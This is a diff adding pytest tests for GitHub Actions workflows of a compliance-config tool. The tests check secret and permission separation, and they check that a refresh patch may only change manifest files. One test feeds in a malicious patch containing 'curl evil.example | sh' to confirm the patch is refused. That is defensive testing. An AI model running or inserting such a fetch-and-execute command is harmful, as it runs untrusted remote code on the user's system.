@@ -128,6 +128,9 @@ def test_the_install_default_is_this_release_under_its_free_name() -> None:
     assert spec == f"hyperproof-config=={__version__}"
     for path in sorted((EXAMPLES / "github").glob("*.yml")):
         caller = next(iter(_load(path)["jobs"].values()))
+        if "uses" not in caller:  # a workflow of its own installs the same release
+            assert f"HPCONFIG_SPEC: {spec}\n" in path.read_text(), path.name
+            continue
         assert caller["with"]["hpconfig-spec"] == spec, path.name
     readme = (ROOT / "README.md").read_text()
     assert (
@@ -168,3 +171,61 @@ def test_each_plan_gets_its_own_artifact_comment_and_category(
         "category: hpconfig/${{ needs.plan.outputs.slug }}",
     ):
         assert use in text
+
+
+REFRESH = EXAMPLES / "github" / "accept-hyperproof-changes.yml"
+
+
+def test_the_refresh_workflow_keeps_the_secret_and_the_push_in_separate_jobs() -> None:
+    jobs = _load(REFRESH)["jobs"]
+    assert jobs["refresh"]["permissions"] == {"contents": "read"}
+    assert jobs["pull-request"]["permissions"] == {"contents": "write", "pull-requests": "write"}
+    refresh_text = yaml.safe_dump(jobs["refresh"])
+    pull_request_text = yaml.safe_dump(jobs["pull-request"])
+    assert "secrets.HYPERPROOF_CLIENT_SECRET" in refresh_text
+    assert "secrets." not in pull_request_text  # the job that can push never sees the secret
+    opener = next(s for s in jobs["pull-request"]["steps"] if s.get("name", "").startswith("Open"))
+    assert opener["uses"].startswith("peter-evans/create-pull-request@")
+    assert opener["with"]["title"] == "Accept changes made in Hyperproof"
+    # one fixed branch: the next run updates the same pull request instead of opening another
+    assert opener["with"]["branch"] == "hpconfig/accept-hyperproof-changes"
+    assert opener["with"]["body-path"].endswith("/refresh/body.md")
+
+
+def _apply_step(tmp_path: Path, patch: str) -> subprocess.CompletedProcess[str]:
+    step = next(
+        s
+        for s in _load(REFRESH)["jobs"]["pull-request"]["steps"]
+        if s.get("name") == "Apply the refresh"
+    )
+    repo = tmp_path / "repo"
+    (repo / "controls").mkdir(parents=True)
+    (repo / "controls" / "a.yaml").write_text("controls:\n  - identifier: A\n    name: Old\n")
+    (repo / "run.sh").write_text("echo hi\n")
+    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t"]
+    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
+    subprocess.run([*git, "add", "."], cwd=repo, check=True)
+    subprocess.run([*git, "commit", "-qm", "x"], cwd=repo, check=True)
+    (tmp_path / "refresh").mkdir()
+    (tmp_path / "refresh" / "refresh.patch").write_text(patch)
+    return subprocess.run(
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        check=False,
+        env={**os.environ, "RUNNER_TEMP": str(tmp_path), "PATHS": "controls/"},
+    )
+
+
+def test_the_refresh_patch_may_change_manifests_only(tmp_path: Path) -> None:
+    manifest = (
+        "--- a/controls/a.yaml\n+++ b/controls/a.yaml\n@@ -1,3 +1,3 @@\n controls:\n"
+        "   - identifier: A\n-    name: Old\n+    name: New\n"
+    )
+    applied = _apply_step(tmp_path / "ok", manifest)
+    assert applied.returncode == 0, applied.stderr
+    script = "--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo hi\n+curl evil.example | sh\n"
+    refused = _apply_step(tmp_path / "bad", manifest + script)
+    assert refused.returncode != 0
+    assert "curl" not in (tmp_path / "bad" / "repo" / "run.sh").read_text()
